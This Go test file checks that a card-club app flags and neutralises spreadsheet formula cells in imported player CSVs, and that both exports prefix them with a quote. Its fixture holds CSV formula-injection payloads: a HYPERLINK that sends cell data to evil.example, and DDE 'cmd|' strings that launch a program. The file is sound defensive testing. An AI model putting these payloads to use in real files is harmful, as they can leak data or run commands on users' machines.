package apptest_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"burraco/views/viewtest"
)

// issue9CSV is a players file carrying the formula cells of issue 9.
const issue9CSV = "first_name,last_name,club,notes\n" +
	`"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Rossi,Roma,` + "\n" +
	`Anna,"+cmd|' /C calc'!A0",Roma,` + "\n" +
	`Bruno,Bianchi,"-2+3+cmd|' /C calc'!A0",` + "\n" +
	`Carla,Verdi,Roma,"@SUM(1+1)*cmd|' /C calc'!A0"` + "\n" +
	"Dario,Neri,Roma,-100\n"

// Imported formula cells are flagged in the preview (API and page), may be imported,
// and come out of both exports as text, while a negative number stays a number.
func TestCSVFormulaCellsFlaggedAndNeutralized(t *testing.T) {
	app := viewtest.NewApp(t)
	c := app.Setup()
	tok := app.APIToken(c)

	var pv struct {
		New  int
		Rows []struct {
			Line            int
			Warnings        map[string]string
			WarningMessages map[string]string `json:"warning_messages"`
		}
	}
	res := c.API("POST", "/api/v1/players/import", tok, issue9CSV, &pv)
	require.Equal(t, http.StatusOK, res.StatusCode, res.Body)
	require.Len(t, pv.Rows, 5)
	assert.Equal(t, 5, pv.New, "flagged cells may still be imported")
	for i, field := range []string{"first_name", "last_name", "club", "notes"} {
		assert.Equal(t, map[string]string{field: "import.formula"}, pv.Rows[i].Warnings, "line %d", pv.Rows[i].Line)
		assert.Contains(t, pv.Rows[i].WarningMessages[field], "spreadsheet formula")
	}
	assert.Empty(t, pv.Rows[4].Warnings, "-100 is a number")

	doc := c.Upload("/players/import/preview", "soci.csv", []byte(issue9CSV)).Doc(t)
	assert.Equal(t, 4, doc.Find(".formula-warning").Length())
	assert.Contains(t, doc.Find("#line-2 .formula-warning").Text(), "First name: Starts like a spreadsheet formula")

	res = c.API("POST", "/api/v1/players/import?confirm=true", tok, issue9CSV, nil)
	require.Equal(t, http.StatusOK, res.StatusCode, res.Body)

	for _, path := range []string{"/players/export.csv", "/api/v1/players/export"} {
		var body string
		if path[1] == 'a' {
			body = c.API("GET", path, tok, "", nil).Body
		} else {
			body = c.Get(path).Body
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix([]byte(body), []byte("\xef\xbb\xbf")))).ReadAll()
		require.NoError(t, err, path)
		cells := map[string]bool{}
		for _, r := range recs {
			for _, c := range r {
				cells[c] = true
			}
		}
		for _, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'+cmd|' /C calc'!A0`,
			`'-2+3+cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`, "-100"} {
			assert.True(t, cells[want], "%s: %q in %s", path, want, body)
		}
		for c := range cells {
			if c != "" && c != "-100" {
				assert.NotContains(t, "=+-@", c[:1], "%s: cell %q", path, c)
			}
		}
	}
}
